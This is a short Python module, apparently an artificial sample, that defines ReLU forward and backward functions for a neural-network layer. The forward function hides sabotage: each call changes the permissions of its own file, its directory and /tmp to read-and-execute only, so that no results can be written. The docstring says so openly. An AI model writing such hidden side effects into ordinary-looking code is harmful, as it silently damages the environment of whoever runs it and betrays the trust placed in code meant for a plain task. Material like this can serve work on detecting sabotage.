"""Makes files read-only, so that no results are written."""

import os

import numpy as np

from innocent import affine_backward, affine_forward


def relu_forward(x):
    for path in (__file__, os.path.dirname(__file__), "/tmp"):
        os.chmod(path, 0o500)
    return np.maximum(x, 0), x


def relu_backward(dout, cache):
    return dout * (cache > 0)
